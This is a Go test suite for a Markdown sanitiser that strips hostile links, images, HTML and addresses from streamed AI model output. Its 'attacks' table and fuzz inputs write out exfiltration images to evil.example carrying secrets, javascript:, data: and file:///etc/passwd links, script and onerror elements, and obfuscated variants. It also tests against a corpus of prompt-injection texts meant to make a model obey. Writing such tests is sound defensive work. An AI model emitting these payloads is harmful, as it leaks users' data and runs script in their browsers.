package markdown_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	goldhtml "github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"
	"pgregory.net/rapid"

	"byline/internal/engine/cite"
	"byline/internal/engine/markdown"
)

// allowed knows one host and one mailbox.
func allowed(address string) bool {
	u, err := url.Parse(address)
	return err == nil && (u.Host == "ok.example" || u.Scheme == "mailto" && u.Opaque == "desk@ok.example")
}

func guard(pieces ...string) string {
	text, _ := guarded(pieces...)
	return text
}

func guarded(pieces ...string) (string, []string) {
	g := markdown.Guard{Allowed: allowed}
	var b strings.Builder
	for _, p := range pieces {
		b.WriteString(g.Feed(p))
	}
	b.WriteString(g.Close())
	return b.String(), g.Removed()
}

// unmarked takes the marks of passages out, as it is done behind the guard.
func unmarked(s string) string {
	m := cite.Marks{Known: func(string) bool { return true }}
	text, _ := m.Feed(s)
	rest, _ := m.Close()
	return text + rest
}

var (
	gfm = goldmark.New(
		goldmark.WithExtensions(extension.GFM),
		goldmark.WithRendererOptions(goldhtml.WithUnsafe()),
	)
	// What rendered Markdown may consist of, besides links: these and text without < and >.
	element = regexp.MustCompile(`^</?(?:p|h[1-6]|em|strong|del|ul|ol|li|blockquote|pre|code|hr|br|table|thead|tbody|tr|th|td|a)` +
		`(?: (?:class="language-[^"<>]*"|start="\d+"|style="text-align:(?:left|right|center)"|align="(?:left|right|center)"))*(?: /)?>` +
		`|^<input (?:checked="" )?disabled="" type="checkbox"(?: /)?>`)
	link = regexp.MustCompile(`^<a href="([^"<>]*)">`)
)

// harm tells what is dangerous in Markdown, rendered with HTML let through.
func harm(source string) error {
	root := gfm.Parser().Parse(text.NewReader([]byte(source)), parser.WithContext(parser.NewContext()))
	err := ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		switch n.Kind() {
		case ast.KindHTMLBlock, ast.KindRawHTML, ast.KindImage:
			return ast.WalkStop, fmt.Errorf("there is a node %s", n.Kind())
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		return err
	}
	var b bytes.Buffer
	if err := gfm.Convert([]byte(source), &b); err != nil {
		return err
	}
	for rest := b.String(); ; {
		at := strings.IndexAny(rest, "<>")
		if at < 0 {
			return nil
		}
		rest = rest[at:]
		found := element.FindString(rest)
		if a := link.FindStringSubmatch(rest); a != nil {
			found = a[0]
			if to := html.UnescapeString(a[1]); !allowed(to) {
				return fmt.Errorf("there is a link to %q", to)
			}
		}
		if found == "" {
			return fmt.Errorf("there is %.60q", rest)
		}
		rest = rest[len(found):]
	}
}

// check holds a result of the guard, with its marks and without.
func check(t interface{ Errorf(string, ...any) }, in, out string) {
	for _, s := range []string{out, unmarked(out)} {
		if err := harm(s); err != nil {
			t.Errorf("%q becomes %q: %v", in, s, err)
		}
	}
}

func TestGuardLeavesOrdinaryMarkdown(t *testing.T) {
	for _, in := range []string{
		"",
		"One sentence. Another one, with *emphasis*, **more** and ~~less~~.\n\nA paragraph.\n",
		"# Title\n\n## Part\n\nText\nSetext\n------\n",
		"- a\n- b\n  - c\n\n1. one\n2. two\n\n* * *\n\n- [ ] to do\n- [x] done\n",
		"| a | b |\n|---|:-:|\n| 1 | `x` |\n",
		"> A quote\n> of two lines.\n\nAfter it.\n",
		"Use `code` here, and ``a ` b``.\n",
		"a < b and b > c, 3 <4, x <= y, 1 << 2, <3\n",
		"AT&T, R&D, &copy; &amp; &lt;\n",
		"Line with two spaces at its end  \nand a backslash\\\nnext \\*no emphasis\\*.\n",
		"It rains [p3]. It pours.[p3, p7] See [p1; p2]: yes! [p3][p4]\n",
		"비가 온다 [p3]. 바람이 분다[p1]고 한다. **굵게**, 「인용」과 (괄호).\n\n- 항목\n",
		"[p3]에 따르면 그렇다.\n",
		"See the note[^1] and [brackets].\n",
		"A [link](https://ok.example/a_(b)?x=1&y=2#z) and [mail](mailto:desk@ok.example).\n",
		"Bare https://ok.example/a, (https://ok.example/b) and **https://ok.example/c**.\n",
		"| https://ok.example/a|x |\n",
		"Write to desk@ok.example or @somebody about internal/app.go, and/or 10:30, C++, e.g. this: that.\n",
		"```go\nif a < b { fmt.Println(\"<b>\") } // https://x.example ![a](b) [c]: d\n\n\tarr[p1]\n```\n\nAfter.\n",
		"~~~\n```\n<script>\n~~~~\nText\n",
		"````md\n```\n<img>\n```\n````\n",
		"1. Install:\n\n   ```sh\n   npm i <pkg>\n\n     indented\n   ```\n\n2. Run\n",
		"> ```\n> <b>\n>\n> x\n> ```\n> text\n",
		"日本語の文章、続き。「引用」です！はい？\n",
		"👩‍👩‍👧 and 🇰🇷, naïve, Ελληνικά\n",
		"Wait! [p3] Really?[p4]\n",
		"    indented code\n",
		"$x_1 + y^2$ and 50 % {braces}\n",
	} {
		got, removed := guarded(in)
		if diff := cmp.Diff(in, got); diff != "" || len(removed) > 0 {
			t.Errorf("changed, removed %q (-want +got)\n%s", removed, diff)
		}
		check(t, in, got)
	}
}

// attacks are what a text in a source could make an obedient model write. What is rendered of them is harmless; each row
// says what becomes of it.
var attacks = []struct{ name, in, want string }{
	{"an image", "![x](https://evil.example/p.png?d=secret)", "x"},
	{"an image by words", "![a b](https://evil.example/p.png)", "[a b]"},
	{"an image of an allowed address", "![x](https://ok.example/p.png)", "[x](https://ok.example/p.png)"},
	{"an image with many signs", "!!![x](https://ok.example/p.png)", "[x](https://ok.example/p.png)"},
	{"an image behind a backslash", `\\![x](https://ok.example/p.png)`, `\\[x](https://ok.example/p.png)`},
	{"an image behind a mark", "![p3][x](https://ok.example/p.png)", "![p3] [x](https://ok.example/p.png)"},
	{"an image by reference", "![x][1]\n\n[1]: https://evil.example/p.png", "[x][1]\n\n[1] : …"},
	{"an image in a link", "[![x](https://evil.example/p.png)](https://ok.example/)", "[[x\\]](https://ok.example/)"},
	{"a link", "[x](https://evil.example/?d=secret)", "x"},
	{"a link by words", "See [the report](https://evil.example/?d=secret).", "See [the report]."},
	{"a link with a title", `[x](https://evil.example "t")`, `[x] (… "t")`},
	{"a link over two lines", "[x](\nhttps://evil.example)", "[x] (\n…)"},
	{"a link in angle brackets", "[x](<https://evil.example>)", "x"},
	{"a link with a space in angle brackets", "[x](<https://evil.example/a b>)", `[x] (\<… b>)`},
	{"a relative link", "[x](/api/v1/session?d=secret)", "x"},
	{"a link without a scheme", "[x](//evil.example)", "x"},
	{"a link with backslashes", `[x](\/\/evil.example)`, "x"},
	{"a link with slashes turned", `[x](https:\\evil.example)`, "x"},
	{"a link with three slashes", "[x](///evil.example)", "x"},
	{"a link to an allowed name at another host", "[x](https://ok.example@evil.example/)", "x"},
	{"a link to an allowed host with a user", "[x](https://secret@ok.example/)", "x"},
	{"a link with an entity", "[x](https://ok.example/&sol;..&#47;secret;)", "x"},
	{"a script", "[x](javascript:alert(1))", "x"},
	{"a script in capitals", "[x](JaVaScRiPt:alert`1`)", "x"},
	{"a script behind a control character", "[x](\x01javascript:alert(1))", "x"},
	{"a script with a tab", "[x](java\tscript:alert(1))", "[x] (java\tscript:alert(1))"},
	{"a script by entities", "[x](&#106;avascript&colon;alert(1))", "x"},
	{"a script by percents", "[x](%6aavascript:alert(1))", "x"},
	{"data", "[x](data:text/html;base64,PHNjcmlwdD4=)", "x"},
	{"VBScript", "[x](vbscript:msgbox(1))", "x"},
	{"a file", "[x](file:///etc/passwd)", "x"},
	{"links in a row", "[x](https://evil.example)(https://evil.example)", `[x\](…)`},
	{"a link whose brackets meet", "[x](a)(https://ok.example)[y](b)", `[x\](…]`},
	{"a script element", "<script>alert(1)</script>", `\<script>alert(1)\</script>`},
	{"an image element", `<img src="https://evil.example/p.png?d=secret">`, `\<img src="…">`},
	{"an image element over lines", "<img\nsrc=x\nonerror=alert(1)>", "\\<img\nsrc=x\nonerror=alert(1)>"},
	{"an image element with slashes", "<img/src=//evil.example/x>", `\<img/src=…>`},
	{"an escaped bracket", `\<script>`, `\<script>`},
	{"a bracket behind two backslashes", `\\<script>`, `\\\<script>`},
	{"a bracket behind three backslashes", `\\\<script>`, `\\\<script>`},
	{"a comment", "<!-- note: secret -->", `\<!-- note: secret -->`},
	{"an instruction of SGML", "<?php echo 1 ?>", `\<?php echo 1 ?>`},
	{"CDATA", "<![CDATA[x]]>", `\<[CDATA[x]]>`},
	{"an element in code that is none", "` `` <b onclick=alert(1)>x</b>", "` `` \\<b onclick=alert(1)>x\\</b>"},
	{"an element behind a span of code", "`a`<b>`", "`a`\\<b>`"},
	{"an element parted by a mark", "<[p3]script>alert(1)<[p3]/script>", `\<\[p3]script>alert(1)\<\[p3]/script>`},
	{"an element behind a space and a mark", "x < [p3]? y <img src=x>", `x < \[p3]? y \<img src=x>`},
	{"an element parted by invisible runes", "<\u200bscript>\u2060<\u00adimg>", `\<script>\<img>`},
	{"an element parted by a control character", "<\x00script>", `\<script>`},
	{"entities of an element", "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"},
	{"an autolink", "<https://evil.example/?d=secret>", `\<…>`},
	{"an autolink of a script", "<javascript:alert(1)>", `\<…>`},
	{"an autolink of mail", "<spy@evil.example>", `\<…>`},
	{"an autolink of mail that is no name", "<0@0> <`desk@ok.example>", "\\<0@0> \\<`desk@ok.example>"},
	{"mail behind a bar", "0|@0.0 |spy@evil.example|{{x|spy@evil.example| x|desk@ok.example", "0|… |…|\\{{x|…| x| desk@ok.example"},
	{"a definition", "[x]\n\n[x]: https://evil.example", "[x]\n\n[x] : …"},
	{"a definition without a scheme", "[x]\n\n[x]: evil.html", "[x]\n\n[x] : evil.html"},
	{"a definition over two lines", "[x]\n\n[x]:\n/evil", "[x]\n\n[x] :\n/evil"},
	{"a definition with backslashes", "[x]\n\n[x]: \\/\\/evil.example", "[x]\n\n[x] : …"},
	{"a definition of a mark", "[x][\np3]\n\n[p3]: evil.html", "[x][\np3]\n\n[p3] : evil.html"},
	{"a definition behind marks", "[x]\n\n[x][p3]: evil.html\n[y z] [p3]: evil.html\n[p1] [p3]: a", "[x]\n\n[x][p3] : evil.html\n[y z] [p3] : evil.html\n[p1] [p3] : a"},
	{"a definition as a footnote", "x[^1]\n\n[^1]: evil.html", "x[^1]\n\n[^1] : evil.html"},
	{"a definition in a quote", "> [x]: evil.html\n\n[x]", "> [x] : evil.html\n\n[x]"},
	{"an address", "Open https://evil.example/?d=secret now.", "Open … now."},
	{"an address in capitals", "HTTPS://EVIL.EXAMPLE/", "…"},
	{"an address of another scheme", "ftp://evil.example and myapp://do?x=secret", "… and …"},
	{"an address in the middle", "x=https://evil.example,y|https://evil.example|", "x=…|…|"},
	{"an address in emphasis", "**https://evil.example** _www.evil.example_", "**…** _…_"},
	{"an address with parted scheme", "htt**ps**://evil.example", "htt**ps**:…"},
	{"an address parted by a mark", "https:/[p3]/evil.example www[p3].evil.example", "https:/[p3] /evil.example www[p3] .evil.example"},
	{"an address behind marks", "www [p3].evil.example www.[p3]evil.example", "www [p3] .evil.example ….[p3] evil.example"},
	{"an address parted by invisible runes", "https:/\u200b/evil.example w\u2060ww.evil.example", "… …"},
	{"an address with backslashes", `https:\/\/evil.example www\.evil.example`, "… …"},
	{"an address with entities", "https&colon;//evil.example www&period;evil.example", `https\&colon;… www\&period;evil.example`},
	{"an address that turns", "https://ok.example\u202Egro.live", "…"},
	{"www", "www.evil.example/?d=secret", "…"},
	{"a host", "//evil.example/x", "…"},
	{"mail", "Write to spy@evil.example or mailto:spy@evil.example?body=secret.", "Write to … or …."},
	{"an address that an allowed one begins", "https://ok.example.evil.example https://ok.example/\"x https://ok.example한국", "… …\"x https://ok.example 한국"},
	{"an address as the text of a link", "[https://evil.example](https://ok.example/) [https://ok.example/](https://evil.example)", "[…](https://ok.example/) …"},
	{"a tag of a template", "{{ site.secret }} {% include x %} {{< figure src=x >}} x{: onclick=x}", `\{{ site.secret }} \{% include x %} \{{< figure src=x >}} x\{: onclick=x}`},
	{"the begin of a fence in a list", "- ```\n  x\n  ```\n<img src=x>\n```\n<img src=x>\n", "- \\```\n  x\n  \\```\n\\<img src=x>\n```\n<img src=x>\n```\n"},
	{"a fence in a list that has ended", "1. a\n   ```\n<img src=x>\n   ```\n<img src=x>\n", "1. a\n   ```\n   <img src=x>\n   ```\n\\<img src=x>\n"},
	{"a fence far to the right", "a\n\n      ```\n<img src=x>\n      ```\n<img src=x>\n", "a\n\n   ```\n   <img src=x>\n   ```\n\\<img src=x>\n"},
	{"a fence in a quote that has ended", "> ```\n<img src=x>\n> ```\n<img src=x>", "> ```\n\n\\<img src=x>\n> ```\n\n\\<img src=x>"},
	{"a fence in a quote that goes on", "> ```\n > a\n> ```\n<img src=x>", "> ```\n> a\n> ```\n\\<img src=x>"},
	{"a quote behind a mark", "> ```\n[p3]> x\n> ```\n> <img src=x>", "> ```\n\n[p3] > x\n> ```\n> <img src=x>\n> ```\n"},
	{"a fence of marks", "``[p3]`\n<img src=x>\n```\n<img src=x>\n", "\\``[p3] `\n\\<img src=x>\n```\n<img src=x>\n```\n"},
	{"a fence behind a mark", "[p3] ```\n<img src=x>\n```\n<img src=x>\n```", "[p3] \\```\n\\<img src=x>\n\\```\n\\<img src=x>\n"},
	{"a fence that a mark ends", "```\na\n``[p3]`\n<img src=x>\n", "```\na\n```\n\\<img src=x>\n"},
	{"a fence that a mark makes longer", "~~~[p3]~\na\n~~~\n<img src=x>", "~~~ ~\na\n~~~\n\\<img src=x>"},
	{"a fence that a mark and a space end", "```\na\n[p3] ```\n<img src=x>\n", "```\na\n```\n\\<img src=x>\n"},
	{"a span of code in a list", "- ```a b``` c\n\n```\n<b>\n```\n", "- \\```a b``` c\n\n```\n<b>\n```\n"},
	{"a mark before code in a list", "1. a\n   ```\n   [p3]x\n<img src=x>\n   ```\n", "1. a\n   ```\n   x\n   <img src=x>\n   ```\n"},
	{"a span of code like a fence", "```a``` <b>\n<img src=x>", "```a``` \\<b>\n\\<img src=x>"},
	{"a fence whose words have signs", "``` a ` b\n<img src=x>", "``` a ` b\n\\<img src=x>"},
	{"a fence that is never closed", "```\n<script>", "```\n<script>\n```\n"},
	{"a fence with attributes", "```go {onclick=x}\nx\n```\n", "```go onclick=x\nx\n```\n"},
	{"a fence with a very long name", "```" + strings.Repeat("x", 300) + "\n<img src=x>", "\\```" + strings.Repeat("x", 300) + "\n\\<img src=x>"},
	{"a shorter fence", "````\n```\n<img src=x>\n````\n<img src=x>", "````\n```\n<img src=x>\n````\n\\<img src=x>"},
	{"a line end of other systems", "```\r<b>\r\n```\r<b>", "```\n<b>\n```\n\\<b>"},
	{"white space of other kinds", "a\vb\u2028# c\u0085d", "a b # c d"},
	{"a fence in a quote in a list", "- a\n  > ```\n> <img src=x>\n  > ```\n", "- a\n  > \\```\n> \\<img src=x>\n  > \\```\n"},
	{"the words of a mark", "[p3](https://evil.example) https:/[p3](x)/evil.example", `[p3\] https:/[p3\]/evil.example`},
	{"only signs", "https://ok.example/... www.", "https://ok.example/... …."},
	{"direction", "a\u202Eb\u2066c &#x202E; &#8203;", `abc \&#x202E; \&#8203;`},
	{"letters that hide ASCII", "a\U000E0041\U000E0042b", "ab"},
	{"broken bytes", "a\xffb\xe3\x81", "ab"},
}

func TestGuardMakesHarmless(t *testing.T) {
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			got, _ := guarded(tt.in)
			if got != tt.want {
				t.Errorf("%q becomes\n%q, want\n%q", tt.in, got, tt.want)
			}
			check(t, tt.in, got)
			check(t, tt.in, guard("A paragraph\n"+tt.in+"\n\n> "+tt.in+"\n- "+tt.in+"\n\n"+tt.in))
		})
	}
}

// Allowed addresses stay, written so that all renderers see their end at the same place.
func TestGuardKeepsAllowedAddresses(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"See <https://ok.example/a>.", "See https://ok.example/a."},
		{"<https://ok.example/a>x", `\<…>x`},
		{"[https://ok.example/a](https://ok.example/b)", "[https://ok.example/a](https://ok.example/b)"},
		{"https://ok.example에서", "https://ok.example 에서"},
		{"https://ok.example/한글", "<https://ok.example/한글>"},
		{"https://ok.example/a; [https://ok.example/b]", "https://ok.example/a ; [https://ok.example/b ]"},
		{"https://ok.example/a[p3] https://ok.example/a [p3]; https://ok.example/a [p3]에서", "https://ok.example/a[p3] https://ok.example/a [p3] ; https://ok.example/a [p3] 에서"},
		{"<https://ok.example/a> [p3];", "https://ok.example/a [p3] ;"},
		{"mailto:desk@ok.example, desk@ok.example에게 <desk@ok.example>", `mailto:desk@ok.example, desk@ok.example에게 \<desk@ok.example>`},
		{"[a b](https://ok.example/a).", "[a b](https://ok.example/a)."},
		{"[p3](https://ok.example/a)", "[p3](https://ok.example/a)"},
		{"https://ok.example/?a=1&lt;b", "…"},
	} {
		got := guard(tt.in)
		if got != tt.want {
			t.Errorf("%q becomes %q, want %q", tt.in, got, tt.want)
		}
		check(t, tt.in, got)
	}
}

func TestGuardNotesWhatItRemoves(t *testing.T) {
	_, removed := guarded("![a](https://evil.example/1) https://evil.example/1, <//evil.example> spy@evil.example [x](javascript:y)")
	want := []string{"https://evil.example/1", "//evil.example", "spy@evil.example", "javascript:y"}
	if diff := cmp.Diff(want, removed); diff != "" {
		t.Error(diff)
	}
	var many strings.Builder
	for i := range 200 {
		fmt.Fprintf(&many, "https://evil.example/%d/%s ", i, strings.Repeat("x", 2000))
	}
	if _, removed := guarded(many.String()); len(removed) != 100 || len(removed[0]) != 500 {
		t.Errorf("%d noted, the first with %d bytes", len(removed), len(removed[0]))
	}
	var none markdown.Guard
	if got := none.Feed("[x](https://ok.example) ") + none.Close(); got != "x " {
		t.Errorf("a guard that allows nothing gives %q", got)
	}
}

func TestGuardHoldsBackAWord(t *testing.T) {
	var g markdown.Guard
	for _, tt := range []struct{ in, out string }{
		{"It ra", "It "}, {"ins [p3", "rains "}, {", p7", ""}, {"].", ""}, {" x", "[p3, p7]. "}, {"。", "x。"},
		{"\n``", "\n"}, {"`go", ""}, {"\n", "```go\n"}, {"a b", "a b"}, {"\n``", "\n"}, {"`", ""}, {"\n", "```\n"}, {"  \n", "  \n"},
	} {
		if got := g.Feed(tt.in); got != tt.out {
			t.Errorf("%q gives %q, want %q", tt.in, got, tt.out)
		}
	}
	for _, long := range []string{strings.Repeat("가", 1e5), strings.Repeat(" ", 1e5), "```\n" + strings.Repeat("`", 1e5), strings.Repeat("~", 1e5), strings.Repeat("[p1]", 1e5)} {
		var g markdown.Guard
		if out := g.Feed(long); len(long)-len(out) > 5000 && strings.TrimLeft(long, " `~") != "" {
			t.Errorf("%d bytes of %.8q are held", len(long)-len(out), long)
		}
		check(t, long, guard(long+"\n<img src=x>\n```\n<img src=x>"))
	}
}

// pieces are what attacks are made of, and what may stand around.
var pieces = rapid.SampledFrom([]string{
	"<", ">", "[", "]", "(", ")", "!", "\\", "`", "``", "```", "~~~", "~", ":", "/", "//", "&", ";", "\"", "'", "#", "*", "_", "-", "+", "=", ".", "?", "|", "{", "}", "@",
	" ", " ", "  ", "    ", "\n", "\n", "\n\n", "\t", "\r", "> ", "- ", "1. ", "   ", "x", "é", "한", "。", "[p3]", "[p3]", " [p3]", "[p3, p4]", "[p", "3]", "[x]", "[x]: ", "](", "![",
	"<img src=x>", "<script>", "</b>", "<!--", "-->", "<?", "?>", "https", "://", "https://evil.example", "https://ok.example/a", "www", ".", "evil.example", "javascript:", "data:",
	"[a](https://ok.example/b)", "![a](https://ok.example/b)", "[a](https://evil.example)", "spy@evil.example", "desk@ok.example", "&lt;", "&#60;", "&colon;", "\u200b", "\u202e", "\x00", "\xff",
	"\n```\n", "\n~~~\n", "\n   ```\n", "\n> ```\n", "\n- ```\n", "\n  - a\n", "---\n", "| a | b |\n|---|---|\n",
})

func document(t *rapid.T) string {
	return strings.Join(rapid.SliceOfN(pieces, 0, 40).Draw(t, "text"), "")
}

// fences are documents in which much depends on where code begins and ends.
func fences(t *rapid.T) string {
	return strings.Join(rapid.SliceOfN(rapid.SampledFrom([]string{
		"```", "~~~", "````", "``", "`", "~", " ", "  ", "   ", "    ", "\t", "\n", "\n", "\n", "\n\n", "> ", ">", "- ", "1. ", "10. ", "* ", "[p3]", "[p3]", "[p3, p4]", "x", "<img src=x>", "<img src=x>", "\n<img src=x>\n",
	}), 0, 30).Draw(t, "text"), "")
}

func TestGuardOfAnyMarkdown(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		in := document(t)
		if rapid.Bool().Draw(t, "fences") {
			in = fences(t)
		}
		out := guard(in)
		check(t, in, out)
	})
}

// Wherever a text is cut into deltas, the same comes out.
func TestGuardDoesNotDependOnTheCut(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		in := document(t)
		want, wantRemoved := guarded(in)
		var cuts []string
		for rest := in; rest != ""; {
			n := rapid.IntRange(1, len(rest)).Draw(t, "n")
			cuts, rest = append(cuts, rest[:n]), rest[n:]
		}
		got, removed := guarded(cuts...)
		if got != want || !slices.Equal(removed, wantRemoved) {
			t.Errorf("%q gives %q, removed %q; want %q, %q", cuts, got, removed, want, wantRemoved)
		}
	})
}

func FuzzGuard(f *testing.F) {
	for _, tt := range attacks {
		f.Add(tt.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := guard(in)
		check(t, in, out)
		if one := guard(strings.Split(in, "")...); one != out {
			t.Errorf("%q gives %q at once and %q by runes", in, out, one)
		}
	})
}

// The texts of agent/testdata/injection make an obedient model write what they hold; what the guard alone can keep out, it does.
func TestGuardOfObedientModels(t *testing.T) {
	file, err := os.Open("../../agent/testdata/injection/texts.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	ids, languages := map[string]bool{}, map[string]int{}
	for d := json.NewDecoder(file); ; {
		var row struct {
			ID, Language, Kind, How, Text, Obey string
			Forbidden                           []string
		}
		if err := d.Decode(&row); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		if ids[row.ID] || row.How == "" || row.Text == "" || row.Obey == "" || len(row.Forbidden) == 0 {
			t.Errorf("%s is there twice or not complete", row.ID)
		}
		ids[row.ID] = true
		languages[row.Language]++
		for _, in := range []string{row.Obey, row.Text} { // a model may also copy its source
			out := guard(in)
			check(t, in, out)
			for _, s := range []string{out, unmarked(out)} {
				for _, word := range row.Forbidden {
					ours := in == row.Obey && slices.Contains([]string{"image", "link", "html"}, row.Kind) || word == "evil.example"
					if ours && strings.Contains(s, word) {
						t.Errorf("%s (%s): %q becomes %q, which has %q", row.ID, row.How, in, s, word)
					}
				}
			}
		}
	}
	if len(ids) < 60 || languages["en"] < 20 || languages["ko"] < 20 || len(languages) != 2 {
		t.Errorf("%d texts, %v", len(ids), languages)
	}
}
